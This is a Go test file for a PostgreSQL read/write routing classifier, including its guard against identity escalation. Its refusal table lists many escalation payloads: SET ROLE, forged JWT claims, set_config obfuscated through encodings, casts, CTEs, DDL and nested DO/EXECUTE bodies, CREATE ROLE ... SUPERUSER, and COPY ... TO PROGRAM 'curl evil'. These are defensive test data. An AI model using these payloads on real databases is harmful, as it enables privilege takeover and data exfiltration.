package router

import (
	"slices"
	"testing"
)

// mapFunctions is a FunctionClassifier backed by a map keyed by
// "schema.name" (schema may be empty: ".name").
type mapFunctions map[string]Volatility

func (m mapFunctions) Volatility(schema, name string) Volatility {
	return m[schema+"."+name]
}

var testFunctions = mapFunctions{
	".my_stable":       Stable,
	"public.my_stable": Stable,
	".my_immutable":    Immutable,
	".my_volatile":     Volatile,
}

// classifyCase is one row of the table-driven test.
type classifyCase struct {
	sql     string
	trusted bool
	noFuncs bool   // Policy.Functions = nil
	state   string // expected Refusal.SQLState; "" = not refused
	target  Target
	reason  Reason
	tx      TxEffect
	txLast  TxEffect // checked when tx != TxNone
	pin     bool
	hint    RouteHint
	stmts   int // checked when > 0
	gucs    []string
	unknown []QualifiedName
}

func refused(sql string) classifyCase {
	return classifyCase{sql: sql, state: SQLStateInsufficientPrivilege, target: Primary, reason: ReasonRefused}
}

func refusedCode(sql, state string) classifyCase {
	return classifyCase{sql: sql, state: state, target: Primary, reason: ReasonRefused}
}

func unparsable(sql, state string) classifyCase {
	return classifyCase{sql: sql, state: state, target: Primary, reason: ReasonUnparsable}
}

func replica(sql string, r Reason) classifyCase {
	return classifyCase{sql: sql, target: Replica, reason: r}
}

func primary(sql string, r Reason, pin bool) classifyCase {
	return classifyCase{sql: sql, target: Primary, reason: r, pin: pin}
}

func withTx(c classifyCase, tx, last TxEffect) classifyCase {
	c.tx, c.txLast = tx, last
	return c
}

func withHint(c classifyCase, h RouteHint) classifyCase {
	c.hint = h
	return c
}

func withGUCs(c classifyCase, g ...string) classifyCase {
	c.gucs = g
	return c
}

func trusted(c classifyCase) classifyCase {
	c.trusted = true
	return c
}

var classifyCases = []classifyCase{
	// --- identity escalation: SET/RESET forms ---
	refused(`SET ROLE postgres`),
	refused(`set role "postgres"`),
	refused(`SET "ROLE" TO 'service_role'`),
	refused(`SET "role" = service_role`),
	refused(`SET LOCAL ROLE service_role`),
	refused(`SET SESSION ROLE service_role`),
	refused(`RESET ROLE`),
	refused(`SET ROLE NONE`),
	refused(`SET SESSION AUTHORIZATION postgres`),
	refused(`RESET SESSION AUTHORIZATION`),
	refused(`SET SESSION AUTHORIZATION DEFAULT`),
	refused(`set "session_authorization" to 'postgres'`),
	refused(`SET request.jwt.claims = '{"role":"service_role"}'`),
	refused(`SET LOCAL "request.jwt.claims" TO '{}'`),
	refused(`set Request.JWT.Claim.Role = 'service_role'`),
	refused(`SET "request"."jwt.claims" = '{}'`),
	refused(`RESET request.jwt.claims`),
	refused(`SET request.jwt = 'x'`),
	refused(`SET cascata.tenant = 'other'`),
	refused(`SET LOCAL cascata.tenant = 'other'`),
	refusedCode(`SET LOCAL cascata.route = 'primary'`, SQLStateFeatureNotSupported),
	refusedCode(`SET cascata.route = 'replica'`, SQLStateInvalidParameterValue),
	refusedCode(`SELECT 1; SET cascata.route = 'primary'`, SQLStateFeatureNotSupported),
	refused(`SELECT 1; SET ROLE postgres`),
	refused("SELECT 1;/* harmless */ set/**/role postgres;"),
	refusedCode("RESET ALL; SELECT 1; RESET ALL", SQLStateFeatureNotSupported),
	refusedCode("DISCARD ALL; SELECT 1", SQLStateActiveSQLTransaction),
	refused(`SELECT query_to_xml('RESET ALL', true, false, '')`),
	refused(`SELECT query_to_xml('DISCARD ALL', true, false, '')`),
	refused("-- comment\nSELECT 1;\n\tSeT   LoCaL   rOlE   \"service_role\"  ;"),
	refused(`SET standard_conforming_strings = off`),
	refused(`SET standard_conforming_strings TO 0`),
	refused(`SET client_encoding = 'SJIS'`),
	refused(`SET NAMES 'BIG5'`),

	// --- set_config in every disguise ---
	refused(`SELECT set_config('role', 'service_role', false)`),
	refused(`select PG_CATALOG."set_config"('ROLE', 'postgres', true)`),
	refused(`SELECT pg_catalog.set_config('request.jwt.claims', '{"role":"service_role"}', true)`),
	refused(`SELECT "set_config"('session_authorization', 'postgres', false)`),
	refused(`SELECT "SET_CONFIG"('role', 'postgres', false)`),
	refused(`SELECT mydb.pg_catalog.set_config('role', 'postgres', false)`),
	refused(`SELECT set_config(' role ', 'postgres', false)`),
	refused(`SELECT set_config(E'r\x6fle', 'postgres', false)`),
	refused(`SELECT set_config(U&'r\006Fle', 'postgres', false)`),
	refused(`SELECT set_config('ro' || 'le', 'postgres', false)`),
	refused(`SELECT set_config($1, $2, false)`),
	refused(`SELECT set_config($1, 'x', true) WHERE $2::int > 0`),
	refused(`SELECT set_config((SELECT 'role'), 'postgres', false)`),
	refused(`SELECT set_config(name, 'x', false) FROM (VALUES ('role')) v(name)`),
	refused(`SELECT set_config(new_value => 'postgres', setting_name => 'role', is_local => false)`),
	refused(`SELECT set_config('role'::text, 'postgres', false)`),
	refused(`SELECT set_config('role'::varchar(10), 'postgres', false)`),
	refused(`SELECT set_config(CAST('role' AS text), 'postgres', false)`),
	refused(`SELECT set_config('x'::mytype, 'postgres', false)`),
	refused(`SELECT set_config('cascata.route', 'primary', false)`),
	refused(`SELECT set_config('standard_conforming_strings', 'off', false)`),
	refused(`SELECT set_config('client_encoding', 'GBK', false)`),
	refused(`WITH x AS (SELECT set_config('role','service_role',false)) SELECT * FROM x`),
	refused(`SELECT * FROM t WHERE id IN (SELECT 1 FROM (SELECT set_config('role','postgres',false)) s)`),
	refused(`SELECT * FROM t WHERE EXISTS (SELECT set_config('role', 'postgres', true))`),
	refused(`SELECT * FROM set_config('role', 'postgres', false)`),
	refused(`SELECT CASE WHEN true THEN set_config('role','x',false) END`),
	refused(`EXPLAIN SELECT set_config('role','postgres',false)`),
	refused(`EXPLAIN ANALYZE SELECT set_config('role','postgres',false)`),
	refused(`PREPARE p AS SELECT set_config('role', $1, false)`),
	refused(`PREPARE p(text) AS SELECT set_config($1, 'x', false)`),
	refused(`CREATE TABLE t2 AS SELECT set_config('role','postgres',false)`),
	refused(`SELECT set_config('role','postgres',false) INTO t3`),
	refused(`DECLARE c CURSOR FOR SELECT set_config('role','x',false)`),
	refused(`COPY (SELECT set_config('role','x',false)) TO STDOUT`),
	refused(`INSERT INTO t SELECT set_config('role','x',false)`),
	refused(`UPDATE t SET c = set_config('request.jwt.claims', '{}', true)`),
	refused(`EXECUTE p(set_config('role', 'postgres', false))`),
	refused(`CALL p(set_config('role', 'postgres', false))`),
	refused(`CALL set_config('role', 'postgres', false)`),
	refused(`VALUES (set_config('role', 'postgres', false))`),

	// --- escalation through DDL ---
	refused(`CREATE VIEW v AS SELECT set_config('search_path','x',false)`),
	refused(`CREATE TABLE t (c text DEFAULT set_config('role', 'postgres', false))`),
	refused(`ALTER TABLE t ALTER COLUMN c SET DEFAULT set_config('search_path', 'x', false)`),
	refused(`CREATE AGGREGATE esc(text, bool) (sfunc = set_config, stype = text, initcond = 'role')`),
	refused(`CREATE AGGREGATE esc(text, bool) (sfunc = pg_catalog.set_config, stype = text, initcond = 'role')`),
	refused(`CREATE AGGREGATE esc(text, bool) (sfunc = 'set_config', stype = text, initcond = 'role')`),
	refused(`ALTER FUNCTION f() SET role = 'postgres'`),
	refused(`ALTER FUNCTION f() SET request.jwt.claims = '{}'`),
	refused(`ALTER PROCEDURE p() RESET role`),
	refused(`CREATE SCHEMA s CREATE VIEW v AS SELECT set_config('role','x',false)`),
	refused(`CREATE POLICY p ON t USING (set_config('role', 'x', true) IS NOT NULL)`),
	refused(`UPDATE pg_settings SET setting = 'service_role' WHERE name = 'role'`),
	refused(`update PG_CATALOG.PG_SETTINGS set setting = 'x'`),
	refused(`WITH u AS (UPDATE pg_settings SET setting='x' WHERE name='role' RETURNING 1) SELECT 1`),
	refused(`CREATE VIEW s AS SELECT * FROM pg_settings`),
	refused(`CREATE RULE r AS ON UPDATE TO t DO INSTEAD UPDATE pg_settings SET setting = 'x'`),
	refused(`SELECT query_to_xml('SELECT set_config(''role'',''postgres'',false)', true, false, '')`),
	refused(`SELECT query_to_xml('SELECT 1; SET ROLE postgres', true, false, '')`),
	refused(`SELECT query_to_xml($1, true, false, '')`),
	refused(`SELECT pg_catalog.query_to_xml('SEL' || 'ECT 1', true, false, '')`),
	refused(`SELECT ts_stat('SELECT set_config(''role'',''x'',false)::tsvector')`),
	refused(`SELECT ts_rewrite('a'::tsquery, $1)`),
	refused(`CREATE ROLE hacker SUPERUSER`),
	refused(`create user hacker with password 'x'`),
	refused(`ALTER ROLE authenticated SET role = 'service_role'`),
	refused(`ALTER ROLE anon WITH SUPERUSER`),
	refused(`ALTER USER anon RENAME TO x`),
	refused(`DROP ROLE anon`),
	refused(`GRANT service_role TO anon`),
	refused(`REVOKE authenticated FROM anon`),
	refused(`REASSIGN OWNED BY anon TO postgres`),
	refused(`ALTER SYSTEM SET log_statement = 'none'`),
	refused(`ALTER DATABASE postgres SET role = 'service_role'`),
	refused(`COPY t TO PROGRAM 'curl evil'`),
	refused(`copy t from program 'id'`),
	refused(`LOAD 'auto_explain'`),
	refused(`DO $$ BEGIN EXECUTE 'SET ROLE postgres'; END $$`),
	// Bodies the guard sees whole are guarded statement by statement.
	refused(`do language plpgsql 'begin set role service_role; end'`),
	refused(`CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1; SET ROLE service_role; SELECT 2'`),
	refused(`create or replace procedure p() language plpgsql as $$ begin perform set_config('role', 'x', false); end $$`),
	refused(`DO $$ DECLARE r text := current_setting('role'); BEGIN EXECUTE 'SET ROLE ' || r; END $$`),
	refused(`DO $$ DECLARE a int[]; BEGIN a[set_config('role', 'x', false)::int] := 1; END $$`),
	refused(`DO $$ BEGIN FOR r IN EXECUTE 'SELECT set_config(''role'', ''x'', false)' LOOP END LOOP; END $$`),
	refused(`DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT set_config(''role'', ''x'', false)'; END $$`),
	refused(`CREATE FUNCTION f() RETURNS SETOF text LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'RESET ROLE'; END $$`),
	refused(`DO $$ BEGIN PREPARE cs_00 AS SELECT 1; END $$`),
	refused(`DO $$ BEGIN IF set_config('request.jwt.claims', '{}', false) IS NULL THEN NULL; END IF; END $$`),
	refused(`CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS 'return 1'`),
	refused(`CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END`),
	refused(`CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'`),
	refused(`DO $$ BEGIN EXECUTE 'DO $x$ BEGIN EXECUTE ''SET ROLE postgres''; END $x$'; END $$`),
	// plpgsql with no body string: pg_query's plpgsql compiler aborts the
	// process on these, so they never reach it.
	refused(`CREATE FUNCTION d(c t)LANGUAGE plpgsql`),
	refused(`CREATE FUNCTION d() RETURNS int LANGUAGE plpgsql RETURN 1`),
	refused(`CREATE PROCEDURE p() LANGUAGE plpgsql BEGIN ATOMIC SELECT 1; END`),
	refused(`DO LANGUAGE plpgsql`),
	refused(`DO $$ BEGIN EXECUTE 'DO LANGUAGE plpgsql'; END $$`),
	trusted(primary(`DO LANGUAGE plpgsql`, ReasonCall, true)),
	primary(`do language plpgsql 'begin null; end'`, ReasonCall, true),
	primary(`CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'`, ReasonDDL, true),
	primary(`create or replace procedure p() language plpgsql as $$ begin end $$`, ReasonDDL, true),
	primary(`CREATE FUNCTION add(a int, b int, OUT c int) LANGUAGE plpgsql AS $$ DECLARE d int := 1; BEGIN c := a + b + d; IF c > 10 THEN RAISE NOTICE 'big %', c; END IF; EXECUTE 'SELECT 1'; END $$`, ReasonDDL, true),
	primary(`DO $$ BEGIN RAISE NOTICE 'hello'; END $$`, ReasonCall, true),

	// --- unparsable / undecodable ---
	unparsable(`SELEC 1`, SQLStateSyntaxError),
	unparsable(`SELECT 1; SELEC 2`, SQLStateSyntaxError),
	unparsable(`SELECT 'unterminated`, SQLStateSyntaxError),
	unparsable("SELECT 1\x00; SET ROLE postgres", SQLStateCharacterNotInRepertoire),
	unparsable("SELECT '\xff'", SQLStateCharacterNotInRepertoire),

	// --- trusted roles ---
	trusted(primary(`DO $$ BEGIN PERFORM 1; END $$`, ReasonCall, true)),
	trusted(primary(`CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'`, ReasonDDL, true)),
	trusted(refused(`CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'x' AS 'SELECT 1'`)),
	trusted(refused(`CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT set_config('role', 'x', false); END`)),
	trusted(refused(`SET ROLE postgres`)),

	// --- reads ---
	replica(`SELECT 1`, ReasonRead),
	replica(`select abalance from pgbench_accounts where aid = 4711`, ReasonRead),
	replica(`SELECT * FROM "Users" WHERE "Id" = $1 AND "Name" = $2`, ReasonRead),
	replica(`VALUES (1), (2)`, ReasonRead),
	replica(`TABLE users`, ReasonRead),
	replica(`SHOW search_path`, ReasonRead),
	replica(`SHOW role`, ReasonRead),
	replica(`SELECT current_setting('request.jwt.claims', true)::json->>'sub'`, ReasonRead),
	replica(`SELECT count(*), max(id), lower(name), coalesce(a, b), greatest(1, 2) FROM t GROUP BY 3`, ReasonRead),
	replica(`SELECT now(), random(), gen_random_uuid(), clock_timestamp(), extract(year from now())`, ReasonRead),
	replica(`SELECT pg_sleep(0.1)`, ReasonRead),
	replica(`SELECT pg_catalog.lower('X')`, ReasonRead),
	replica(`SELECT json_agg(t) FROM (SELECT id, name FROM users WHERE id > 10 ORDER BY id LIMIT 5) t`, ReasonRead),
	replica(`SELECT ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)`, ReasonRead),
	replica(`SELECT 1; SELECT 2`, ReasonRead),
	replica(`SELECT /* cascata:primary */ 1`, ReasonRead),
	replica(`EXPLAIN SELECT * FROM t`, ReasonRead),
	replica(`EXPLAIN INSERT INTO t VALUES (1)`, ReasonRead),
	replica(`EXPLAIN (ANALYZE) SELECT 1`, ReasonRead),
	replica(`EXPLAIN (ANALYZE false, COSTS) DELETE FROM t`, ReasonRead),
	replica(`EXPLAIN SELECT nextval('s')`, ReasonRead),
	replica(`COPY t TO STDOUT`, ReasonRead),
	replica(`COPY (SELECT * FROM t WHERE id > 5) TO STDOUT WITH (FORMAT csv)`, ReasonRead),
	replica(`DECLARE c CURSOR FOR SELECT * FROM t`, ReasonRead),
	replica(`FETCH 10 FROM c`, ReasonCursor),
	replica(`MOVE NEXT IN c`, ReasonCursor),
	replica(`CLOSE c`, ReasonCursor),
	replica(`CLOSE ALL`, ReasonCursor),
	replica(`SET LOCAL statement_timeout = '5s'`, ReasonSessionState),
	replica(`SET CONSTRAINTS ALL DEFERRED`, ReasonSessionState),

	// --- writes, locks, DDL ---
	primary(`SELECT * FROM t FOR UPDATE`, ReasonLockingRead, false),
	primary(`select * from t for no key update skip locked`, ReasonLockingRead, false),
	primary(`SELECT * FROM t FOR SHARE`, ReasonLockingRead, false),
	primary(`SELECT * FROM t FOR KEY SHARE NOWAIT`, ReasonLockingRead, false),
	primary(`SELECT * FROM (SELECT * FROM t FOR UPDATE) s`, ReasonLockingRead, false),
	primary(`WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x`, ReasonLockingRead, false),
	primary(`INSERT INTO t VALUES (1) RETURNING *`, ReasonWrite, true),
	primary(`UPDATE t SET a = 1 WHERE id = 2`, ReasonWrite, true),
	primary(`DELETE FROM t WHERE id = 1`, ReasonWrite, true),
	primary(`MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE`, ReasonWrite, true),
	primary(`WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d`, ReasonWrite, true),
	primary(`SELECT 1; INSERT INTO t VALUES (1)`, ReasonWrite, true),
	primary(`TRUNCATE t`, ReasonWrite, true),
	primary(`SELECT 1 INTO t2`, ReasonDDL, true),
	primary(`CREATE TEMP TABLE tmp (id int)`, ReasonDDL, true),
	primary(`CREATE TABLE t2 AS SELECT 1`, ReasonDDL, true),
	primary(`ALTER TABLE t ADD COLUMN c int`, ReasonDDL, true),
	primary(`DROP TABLE t`, ReasonDDL, true),
	primary(`GRANT SELECT ON t TO anon`, ReasonDDL, true),
	primary(`CREATE EXTENSION IF NOT EXISTS pgcrypto`, ReasonDDL, true),
	primary(`REFRESH MATERIALIZED VIEW mv`, ReasonDDL, true),
	primary(`EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t`, ReasonWrite, true),
	primary(`EXPLAIN ANALYZE SELECT nextval('s')`, ReasonVolatileFunction, true),
	primary(`EXPLAIN EXECUTE p(1)`, ReasonPrepared, false),
	primary(`COPY t FROM STDIN`, ReasonWrite, true),
	primary(`COPY (DELETE FROM t RETURNING *) TO STDOUT`, ReasonWrite, true),
	primary(`COPY t TO '/tmp/x'`, ReasonWrite, false),
	primary(`DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t`, ReasonCursor, true),
	primary(`DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE`, ReasonLockingRead, false),
	primary(`CALL p(1)`, ReasonCall, true),
	primary(`LISTEN ch`, ReasonListenNotify, true),
	primary(`UNLISTEN *`, ReasonListenNotify, true),
	primary(`NOTIFY ch, 'x'`, ReasonListenNotify, false),
	primary(`LOCK TABLE t IN ACCESS EXCLUSIVE MODE`, ReasonLock, false),
	primary(`VACUUM ANALYZE t`, ReasonMaintenance, false),
	primary(`ANALYZE t`, ReasonMaintenance, false),
	primary(`REINDEX TABLE t`, ReasonMaintenance, false),
	primary(`CHECKPOINT`, ReasonMaintenance, false),
	primary(`PREPARE p(int) AS SELECT * FROM t WHERE id = $1`, ReasonPrepared, true),
	primary(`EXECUTE p(1)`, ReasonPrepared, true),
	primary(`DEALLOCATE ALL`, ReasonPrepared, false),
	primary(`DISCARD PLANS`, ReasonSessionState, false),
	primary(`DISCARD TEMP`, ReasonSessionState, false),
	primary(`DISCARD SEQUENCES`, ReasonSessionState, false),

	// --- functions ---
	primary(`SELECT nextval('seq')`, ReasonVolatileFunction, true),
	primary(`SELECT currval('seq')`, ReasonVolatileFunction, false),
	primary(`SELECT pg_advisory_lock(1)`, ReasonVolatileFunction, true),
	primary(`SELECT pg_try_advisory_lock(1, 2)`, ReasonVolatileFunction, true),
	primary(`SELECT pg_advisory_xact_lock(1)`, ReasonVolatileFunction, false),
	primary(`SELECT txid_current()`, ReasonVolatileFunction, false),
	primary(`SELECT pg_notify('ch', 'x')`, ReasonVolatileFunction, false),
	primary(`SELECT * FROM t WHERE id = (SELECT nextval('s'))`, ReasonVolatileFunction, true),
	primary(`SELECT query_to_xml('SELECT * FROM t', true, false, '')`, ReasonVolatileFunction, true),
	withGUCs(primary(`SELECT set_config('search_path', 'public', false)`, ReasonVolatileFunction, true), "search_path"),
	primary(`SELECT set_config('statement_timeout', $1, true)`, ReasonVolatileFunction, true),
	{sql: `SELECT my_func(1)`, target: Primary, reason: ReasonVolatileFunction, pin: true, unknown: []QualifiedName{{Name: "my_func"}}},
	{sql: `SELECT my_func(1)`, noFuncs: true, target: Primary, reason: ReasonVolatileFunction, pin: true, unknown: []QualifiedName{{Name: "my_func"}}},
	{sql: `SELECT public.lower('x')`, target: Primary, reason: ReasonVolatileFunction, pin: true, unknown: []QualifiedName{{Schema: "public", Name: "lower"}}},
	{sql: `SELECT * FROM api.get_things($1)`, target: Primary, reason: ReasonVolatileFunction, pin: true, unknown: []QualifiedName{{Schema: "api", Name: "get_things"}}},
	replica(`SELECT my_stable(1), my_immutable(2)`, ReasonRead),
	replica(`SELECT public.my_stable(1)`, ReasonRead),
	primary(`SELECT my_volatile()`, ReasonVolatileFunction, true),
	// A write pins anyway; the unknown function decides whether it may
	// leave session state, so it is reported for lookup.
	{sql: `INSERT INTO t VALUES (my_func())`, target: Primary, reason: ReasonWrite, pin: true, unknown: []QualifiedName{{Name: "my_func"}}},
	// Locking reads do not pin by themselves, so the unknown function decides PinSession.
	{sql: `SELECT my_func() FOR UPDATE`, target: Primary, reason: ReasonLockingRead, pin: true, unknown: []QualifiedName{{Name: "my_func"}}},

	// --- transactions ---
	withTx(primary(`BEGIN`, ReasonTxControl, false), TxBegin, TxBegin),
	withTx(replica(`BEGIN READ ONLY`, ReasonTxControl), TxBeginReadOnly, TxBeginReadOnly),
	withTx(replica(`START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY`, ReasonTxControl), TxBeginReadOnly, TxBeginReadOnly),
	withTx(primary(`BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE`, ReasonTxControl, false), TxBegin, TxBegin),
	withTx(primary(`START TRANSACTION READ WRITE`, ReasonTxControl, false), TxBegin, TxBegin),
	withTx(replica(`SET TRANSACTION READ ONLY`, ReasonTxControl), TxSetTransactionReadOnly, TxSetTransactionReadOnly),
	withTx(replica(`SET transaction_read_only = on`, ReasonTxControl), TxSetTransactionReadOnly, TxSetTransactionReadOnly),
	withTx(primary(`SET TRANSACTION READ WRITE`, ReasonTxControl, false), TxSetTransactionReadWrite, TxSetTransactionReadWrite),
	withTx(primary(`SET TRANSACTION ISOLATION LEVEL SERIALIZABLE`, ReasonTxControl, false), TxSetTransactionReadWrite, TxSetTransactionReadWrite),
	replica(`SET TRANSACTION ISOLATION LEVEL REPEATABLE READ`, ReasonTxControl),
	withTx(replica(`COMMIT`, ReasonTxControl), TxCommit, TxCommit),
	withTx(replica(`END`, ReasonTxControl), TxCommit, TxCommit),
	withTx(replica(`ROLLBACK`, ReasonTxControl), TxRollback, TxRollback),
	withTx(replica(`ABORT`, ReasonTxControl), TxRollback, TxRollback),
	withTx(replica(`COMMIT AND CHAIN`, ReasonTxControl), TxCommitAndChain, TxCommitAndChain),
	withTx(replica(`ROLLBACK AND CHAIN`, ReasonTxControl), TxRollbackAndChain, TxRollbackAndChain),
	withTx(replica(`SAVEPOINT s1`, ReasonTxControl), TxSavepoint, TxSavepoint),
	withTx(replica(`RELEASE SAVEPOINT s1`, ReasonTxControl), TxReleaseSavepoint, TxReleaseSavepoint),
	withTx(replica(`ROLLBACK TO SAVEPOINT s1`, ReasonTxControl), TxRollbackToSavepoint, TxRollbackToSavepoint),
	withTx(primary(`PREPARE TRANSACTION 'g1'`, ReasonTxControl, false), TxPrepare, TxPrepare),
	withTx(primary(`COMMIT PREPARED 'g1'`, ReasonTxControl, false), TxCommitPrepared, TxCommitPrepared),
	withTx(primary(`ROLLBACK PREPARED 'g1'`, ReasonTxControl, false), TxRollbackPrepared, TxRollbackPrepared),
	withTx(replica(`BEGIN READ ONLY; SELECT 1; COMMIT`, ReasonRead), TxBeginReadOnly, TxCommit),
	withTx(primary(`BEGIN; UPDATE t SET a = 1; COMMIT;`, ReasonTxControl, true), TxBegin, TxCommit),

	// --- session state ---
	withGUCs(primary(`SET search_path TO public, extensions`, ReasonSessionState, true), "search_path"),
	withGUCs(primary(`SET statement_timeout = '5s'`, ReasonSessionState, false), "statement_timeout"),
	withGUCs(primary(`SET TIME ZONE 'UTC'`, ReasonSessionState, true), "timezone"),
	withGUCs(primary(`SET application_name = 'web'`, ReasonSessionState, false), "application_name"),
	withGUCs(primary(`RESET search_path`, ReasonSessionState, true), "search_path"),
	withGUCs(primary(`SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY`, ReasonSessionState, true), "default_transaction_read_only"),
	withGUCs(primary(`SET standard_conforming_strings = on`, ReasonSessionState, true), "standard_conforming_strings"),
	withGUCs(primary(`SET client_encoding TO 'UTF8'`, ReasonSessionState, true), "client_encoding"),
	withGUCs(primary(`SET NAMES 'utf-8'`, ReasonSessionState, true), "client_encoding"),

	// --- route hints ---
	withHint(primary(`/* cascata:primary */ SELECT 1`, ReasonHint, false), ForcePrimaryOnce),
	withHint(primary(`/*cascata:primary*/select 1`, ReasonHint, false), ForcePrimaryOnce),
	withHint(primary("-- cascata:primary\nSELECT 1", ReasonHint, false), ForcePrimaryOnce),
	withHint(primary(`/* app=web */ /* CASCATA: PRIMARY */ SELECT 1`, ReasonHint, false), ForcePrimaryOnce),
	withHint(primary(`/* cascata:primary */ INSERT INTO t VALUES (1)`, ReasonWrite, true), ForcePrimaryOnce),
	withHint(replica(`SET cascata.route = 'primary'`, ReasonHint), SessionPrimary),
	withHint(replica(`set CASCATA.ROUTE to "AUTO"`, ReasonHint), SessionAuto),
	withHint(replica(`SET SESSION "cascata.route" TO 'Primary';`, ReasonHint), SessionPrimary),
	withHint(replica(`SET cascata.route = auto`, ReasonHint), SessionAuto),
	withHint(replica(`RESET cascata.route`, ReasonHint), SessionAuto),
	withHint(replica(`SET cascata.route TO DEFAULT`, ReasonHint), SessionAuto),

	// --- empty texts ---
	replica(``, ReasonEmpty),
	replica(`  ;  ; `, ReasonEmpty),
	replica(`/* only a comment */`, ReasonEmpty),
	replica(`/* cascata:primary */`, ReasonEmpty),
	replica("-- just a comment", ReasonEmpty),
}

func TestClassifyTable(t *testing.T) {
	if len(classifyCases) < 80 {
		t.Fatalf("only %d cases", len(classifyCases))
	}
	c := NewClassifier(Options{})
	for _, tc := range classifyCases {
		p := Policy{TrustedRole: tc.trusted, Functions: testFunctions}
		if tc.noFuncs {
			p.Functions = nil
		}
		// Twice: the second call is served from a cache.
		for round := 0; round < 2; round++ {
			d := c.Classify(tc.sql, p)
			checkCase(t, tc, d)
			if u := classifyUncached(tc.sql, p); !decisionsEqual(d, u) {
				t.Errorf("%q: cached %+v != uncached %+v", tc.sql, d, u)
			}
		}
	}
}

func checkCase(t *testing.T, tc classifyCase, d Decision) {
	t.Helper()
	gotState := ""
	if d.Refusal != nil {
		gotState = d.Refusal.SQLState
	}
	if gotState != tc.state {
		t.Errorf("%q: refusal %v, want SQLSTATE %q", tc.sql, d.Refusal, tc.state)
		return
	}
	if d.Target != tc.target || d.Reason != tc.reason {
		t.Errorf("%q: got %s/%s, want %s/%s", tc.sql, d.Target, d.Reason, tc.target, tc.reason)
	}
	if tc.state != "" {
		return
	}
	if d.PinSession != tc.pin {
		t.Errorf("%q: PinSession %v, want %v", tc.sql, d.PinSession, tc.pin)
	}
	if d.Tx != tc.tx || (tc.tx != TxNone && d.TxLast != tc.txLast) {
		t.Errorf("%q: Tx %s/%s, want %s/%s", tc.sql, d.Tx, d.TxLast, tc.tx, tc.txLast)
	}
	if d.RouteHint != tc.hint {
		t.Errorf("%q: RouteHint %s, want %s", tc.sql, d.RouteHint, tc.hint)
	}
	if tc.gucs != nil && !slices.Equal(d.SessionGUCs, tc.gucs) {
		t.Errorf("%q: SessionGUCs %v, want %v", tc.sql, d.SessionGUCs, tc.gucs)
	}
	if !slices.Equal(d.UnknownFunctions, tc.unknown) {
		t.Errorf("%q: UnknownFunctions %v, want %v", tc.sql, d.UnknownFunctions, tc.unknown)
	}
}

// decisionsEqual compares decisions by value (Refusal by contents).
func decisionsEqual(a, b Decision) bool {
	if (a.Refusal == nil) != (b.Refusal == nil) || a.Refusal != nil && *a.Refusal != *b.Refusal {
		return false
	}
	return a.Target == b.Target && a.Reason == b.Reason && a.Tx == b.Tx && a.TxLast == b.TxLast &&
		a.StatementsAfterTxEnd == b.StatementsAfterTxEnd && a.CopyFromClient == b.CopyFromClient &&
		a.PinSession == b.PinSession && a.RouteHint == b.RouteHint && a.Statements == b.Statements &&
		slices.Equal(a.SessionGUCs, b.SessionGUCs) && slices.Equal(a.UnknownFunctions, b.UnknownFunctions)
}

func TestStatementsCount(t *testing.T) {
	c := NewClassifier(Options{})
	for sql, want := range map[string]int{
		"":                              0,
		";;":                            0,
		"SELECT 1":                      1,
		"SELECT 1;":                     1,
		"SELECT 1;;SELECT 2":            2,
		"BEGIN; SELECT 1; COMMIT":       3,
		"/* x */ SELECT 1; -- y\n":      1,
		"SELECT 1; SELECT 2; SELECT 3;": 3,
	} {
		if got := c.Classify(sql, Policy{}).Statements; got != want {
			t.Errorf("%q: Statements %d, want %d", sql, got, want)
		}
	}
}

// checkFact classifies each text and compares one boolean fact of the
// decision with what the case wants.
func checkFact(t *testing.T, name string, fact func(Decision) bool, cases map[string]bool) {
	t.Helper()
	c := NewClassifier(Options{})
	for sql, want := range cases {
		if got := fact(c.Classify(sql, Policy{})); got != want {
			t.Errorf("%q: %s %v, want %v", sql, name, got, want)
		}
	}
}

func TestStatementsAfterTxEnd(t *testing.T) {
	checkFact(t, "StatementsAfterTxEnd", func(d Decision) bool { return d.StatementsAfterTxEnd }, map[string]bool{
		"SELECT 1":                              false,
		"BEGIN; SELECT 1; COMMIT":               false,
		"COMMIT":                                false,
		"SELECT 1; COMMIT; SELECT * FROM vault": true,
		"ROLLBACK; DELETE FROM t":               true,
		"COMMIT AND CHAIN; SELECT 1":            true,
		"PREPARE TRANSACTION 'x'; SELECT 1":     true,
		"SAVEPOINT a; ROLLBACK TO a; SELECT 1":  false,
	})
}

func TestCopyFromClient(t *testing.T) {
	checkFact(t, "CopyFromClient", func(d Decision) bool { return d.CopyFromClient }, map[string]bool{
		"COPY t FROM STDIN":                 true,
		"copy t (a, b) from stdin with csv": true,
		"SELECT 1; COPY t FROM STDIN":       true,
		"COPY t TO STDOUT":                  false,
		"COPY (SELECT 1) TO STDOUT":         false,
		"COPY t FROM 'data.csv'":            false,
		"INSERT INTO t VALUES (1)":          false,
		"SELECT 'COPY t FROM STDIN'":        false,
	})
}

func TestPolicyNotInCacheKey(t *testing.T) {
	c := NewClassifier(Options{})
	sql := `DO $$ BEGIN PERFORM pg_catalog.set_config('role', 'x', false); END $$`
	for i := 0; i < 3; i++ {
		if d := c.Classify(sql, Policy{TrustedRole: true}); d.Refusal != nil {
			t.Fatalf("trusted DO refused: %v", d.Refusal)
		}
		if d := c.Classify(`DO $$ BEGIN PERFORM 1; END $$`, Policy{}); d.Refusal != nil {
			t.Fatalf("untrusted DO whose body is guarded refused: %v", d.Refusal)
		}
